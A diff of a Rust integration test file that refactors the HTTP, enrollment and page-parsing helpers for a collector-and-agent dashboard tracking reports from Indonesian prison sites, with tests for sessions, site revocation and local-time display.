-    let after = http_call(addr, "GET", "/", &[("Cookie", &cookie)], "").await;
+    let after = http_get(addr, "/", &[("Cookie", &cookie)]).await;
     assert_eq!(after.status, 303, "the cookie still works after logout");
     assert_eq!(c.store.session_count("admin1").ok(), Some(0));
 
     assert_eq!(
-        http_call(addr, "GET", "/", &[("Cookie", &viewer)], "")
-            .await
-            .status,
+        http_get(addr, "/", &[("Cookie", &viewer)]).await.status,
         200
     );
     c.store
@@ -1889,61 +1617,63 @@ async fn sessions_survive_a_restart_and_logout_removes_them() {
     assert!(matches!(c.store.session(&expired), Ok(None)));
 }
 
+/// Sites named as the gazetteer names them (id, name, Kanwil), in WIB, WITA and WIT.
+const CIPINANG: (&str, &str, &str) = ("lapas-cipinang", "Lapas Kelas I Cipinang", "DKI Jakarta");
+const MAKASSAR: (&str, &str, &str) = (
+    "rutan-makassar",
+    "Rutan Kelas I Makassar",
+    "Sulawesi Selatan",
+);
+const SORONG: (&str, &str, &str) = ("lapas-sorong", "Lapas Kelas IIB Sorong", "Papua Barat Daya");
+
 /// Registers a site named as the gazetteer names it and enrolls an agent for it in `dir`;
 /// returns the agent, ready to run.
 async fn enroll_named(
     c: &TestCollector,
     dir: &std::path::Path,
-    id: &str,
-    name: &str,
-    kanwil: &str,
+    (id, name, kanwil): (&str, &str, &str),
 ) -> pasopati_agent::Agent {
-    use pasopati_collector::control::{CollectorRequest, CollectorResponse};
-    let add = pasopati_collector::admin::SiteAdd {
-        id: pasopati_common::SiteId::new(id).unwrap_or_else(|e| panic!("{e}")),
-        name: name.into(),
-        site_type: pasopati_common::SiteType::Lapas,
-        kanwil: kanwil.into(),
-        ttl: None,
-    };
-    let token = match pasopati_collector::call(&c.dir, CollectorRequest::SiteAdd(add))
-        .await
-        .as_deref()
-    {
-        Ok([CollectorResponse::Token(t)]) => t.clone(),
-        other => panic!("site add {id}: {other:?}"),
-    };
+    let token = c
+        .register(pasopati_collector::admin::SiteAdd {
+            name: name.into(),
+            kanwil: kanwil.into(),
+            ..site(id)
+        })
+        .await;
     pasopati_agent::enroll(dir, &token, false)
         .await
         .unwrap_or_else(|e| panic!("enrolling {id}: {e}"));
-    pasopati_agent::Agent::open(dir).unwrap_or_else(|e| panic!("{e}"))
+    open_agent(dir)
 }
 
-fn run_agent(
-    agent: pasopati_agent::Agent,
-) -> (
-    tokio_util::sync::CancellationToken,
-    tokio::task::JoinHandle<Result<(), pasopati_agent::AgentError>>,
-) {
-    let stop = tokio_util::sync::CancellationToken::new();
-    let task = tokio::spawn(agent.run_with(
-        pasopati_agent::RunOptions {
-            control_socket: false,
-            inbox: false,
-            web: false,
-        },
-        stop.clone(),
-    ));
-    (stop, task)
+/// Enrolls an agent for `lapas-uji` in `dir`, files `drafts` there, runs it until the collector
+/// holds them all, and stops it; returns the filed reports.
+async fn sync_reports(
+    c: &TestCollector,
+    dir: &std::path::Path,
+    drafts: Vec<pasopati_common::ReportDraft>,
+) -> Vec<pasopati_common::Report> {
+    c.enroll_agent(dir, "lapas-uji").await;
+    let agent = open_agent(dir);
+    let filed: Vec<_> = drafts
+        .into_iter()
+        .map(|d| agent.file(d).unwrap_or_else(|e| panic!("{e}")))
+        .collect();
+    let running = run_agent(agent);
+    let what = if filed.len() == 1 {
+        "the report stored"
+    } else {
+        "the reports stored"
+    };
+    c.wait_for_reports(what, filed.len() as u64, Duration::from_secs(30))
+        .await;
+    running.stop().await;
+    filed
 }
 
 /// The `<tr>` of a site on Armada.
 fn armada_row(page: &str, id: &str) -> String {
-    page.split(&format!("data-site=\"{id}\""))
-        .nth(1)
-        .and_then(|r| r.split("</tr>").next())
-        .unwrap_or_default()
-        .to_owned()
+    section(page, &format!("data-site=\"{id}\""), "</tr>")
 }
 
 /// Whether `text` holds a local time of the form `2026-11-02 08:15 WITA` in `zone`.
@@ -1967,21 +1697,12 @@ fn has_local_time(text: &str, zone: &str) -> bool {
 /// checked by the server, and the revocation is audited with the dashboard user.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let id = "rutan-makassar";
-    let agent = enroll_named(
-        &c,
-        &tmp.path().join("agent"),
-        id,
-        "Rutan Kelas I Makassar",
-        "Sulawesi Selatan",
-    )
-    .await;
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
+    let id = MAKASSAR.0;
+    let agent = enroll_named(&c, &tmp.path().join("agent"), MAKASSAR).await;
     let handle = agent.handle();
     handle.file(draft(1)).unwrap_or_else(|e| panic!("{e}"));
-    let (stop, task) = run_agent(agent);
+    let running = run_agent(agent);
     let site = pasopati_common::SiteId::new(id).unwrap_or_else(|e| panic!("{e}"));
     eventually(
         "the report stored and a heartbeat",
@@ -1997,7 +1718,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
     .await;
     let (cookie, csrf) = dashboard_login(addr, "admin1", PASSWORD).await;
     let sites_json = || async {
-        let reply = http_call(addr, "GET", "/api/v1/sites", &[("Cookie", &cookie)], "").await;
+        let reply = http_get(addr, "/api/v1/sites", &[("Cookie", &cookie)]).await;
         let v: Value = serde_json::from_str(&reply.body).unwrap_or(Value::Null);
         v["items"]
             .as_array()
@@ -2045,7 +1766,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
             .is_some_and(|t| t.ends_with("+08:00")),
         "{v}"
     );
-    let page = http_call(addr, "GET", "/armada", &[("Cookie", &cookie)], "").await;
+    let page = http_get(addr, "/armada", &[("Cookie", &cookie)]).await;
     let row = armada_row(&page.body, id);
     assert!(row.contains("class=\"online\""), "{row}");
     assert!(row.contains("7 (usang)"), "{row}");
@@ -2053,11 +1774,10 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
     assert!(row.contains("Rutan Kelas I Makassar"), "{row}");
 
     // The agent stops: offline at once, not after `offline_after` (10 minutes here).
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
     let stopped = Instant::now();
     loop {
-        let page = http_call(addr, "GET", "/armada", &[("Cookie", &cookie)], "").await;
+        let page = http_get(addr, "/armada", &[("Cookie", &cookie)]).await;
         if armada_row(&page.body, id).contains("class=\"offline\"") {
             break;
         }
@@ -2079,17 +1799,7 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
             if let Some(confirm) = confirm {
                 fields.push(("konfirmasi", confirm));
             }
-            http_call(
-                addr,
-                "POST",
-                &format!("/armada/{id}/cabut"),
-                &[
-                    ("Cookie", &cookie),
-                    ("Content-Type", "application/x-www-form-urlencoded"),
-                ],
-                &form_body(&fields),
-            )
-            .await
+            post_form(addr, &format!("/armada/{id}/cabut"), &cookie, &fields).await
         }
     };
     let revoked = || {
@@ -2126,35 +1836,24 @@ async fn armada_follows_connections_and_batches_and_revoking_needs_the_site_id()
 /// sentiment figure is the mean of the stories it lists, and an "offline 0" is not red.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
-    let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
-    let c = collector_with_users(&tmp.path().join("collector")).await;
-    let addr = http_addr(&c);
-    let id = "lapas-sorong";
-    let agent = enroll_named(
-        &c,
-        &tmp.path().join("agent"),
-        id,
-        "Lapas Kelas IIB Sorong",
-        "Papua Barat Daya",
-    )
-    .await;
+    let (tmp, c, addr) = dashboard_in_tempdir().await;
+    let agent = enroll_named(&c, &tmp.path().join("agent"), SORONG).await;
     let handle = agent.handle();
+    let id = SORONG.0;
     let mut urgent = draft(1);
     urgent.category = "kejadian_menonjol".into();
     urgent.priority = Some(pasopati_common::Priority::Urgent);
     urgent.title = "Kebakaran kecil di dapur (uji zona)".into();
     let filed = handle.file(urgent).unwrap_or_else(|e| panic!("{e}"));
-    let (stop, task) = run_agent(agent);
+    let running = run_agent(agent);
     import_media_fixture(&c);
-    eventually("the report stored", Duration::from_secs(30), || {
-        c.store.report_count().is_ok_and(|n| n == 1)
-    })
-    .await;
+    c.wait_for_reports("the report stored", 1, Duration::from_secs(30))
+        .await;
     let (cookie, _) = dashboard_login(addr, "analis1", PASSWORD).await;
     let get = |path: String| {
         let cookie = cookie.clone();
         async move {
-            let reply = http_call(addr, "GET", &path, &[("Cookie", &cookie)], "").await;
+            let reply = http_get(addr, &path, &[("Cookie", &cookie)]).await;
             assert_eq!(reply.status, 200, "{path}: {}", reply.body);
             reply.body
         }
@@ -2206,12 +1905,7 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
         assert!(!text.contains(":00Z"), "{path} shows raw UTC: {text}");
     }
     let digest = get("/publikasi/ringkasan-harian".to_owned()).await;
-    let select = digest
-        .split("<select name=\"kanwil\">")
-        .nth(1)
-        .and_then(|s| s.split("</select>").next())
-        .unwrap_or_default()
-        .to_owned();
+    let select = section(&digest, "<select name=\"kanwil\">", "</select>");
     assert_eq!(select.matches("<option").count(), 39, "{select}");
     assert!(select.contains(">Papua Barat Daya<"));
     assert!(
@@ -2236,12 +1930,7 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
     // Ringkasan: top stories are media stories, the sentiment card is their mean, offline 0
     // is not red.
     let home = get("/".to_owned()).await;
-    let table = home
-        .split("Cerita media teratas")
-        .nth(1)
-        .and_then(|s| s.split("</table>").next())
-        .unwrap_or_default()
-        .to_owned();
+    let table = section(&home, "Cerita media teratas", "</table>");
     let rows: Vec<Vec<String>> = table
         .split("<tr>")
         .skip(2)
@@ -2260,12 +1949,7 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
         sum += row[5].replace('+', "").parse::<f64>().unwrap_or(f64::NAN);
     }
     let mean = format!("{:+.2}", sum / rows.len() as f64);
-    let card = home
-        .split("Sentimen media")
-        .nth(1)
-        .and_then(|s| s.split("</b>").next())
-        .unwrap_or_default()
-        .to_owned();
+    let card = section(&home, "Sentimen media", "</b>");
     assert!(
         card.ends_with(&mean),
         "card {card} against the rows' mean {mean}"
@@ -2274,8 +1958,7 @@ async fn pages_show_local_time_names_and_labels_and_ringkasan_agrees() {
         home.contains("UPT offline sekarang<b class=\"\">0</b>"),
         "offline 0 is coloured: {home}"
     );
-    stop.cancel();
-    let _ = task.await;
+    running.stop().await;
 }
 
 /// Imports the analysis fixture's media items into the collector's store.
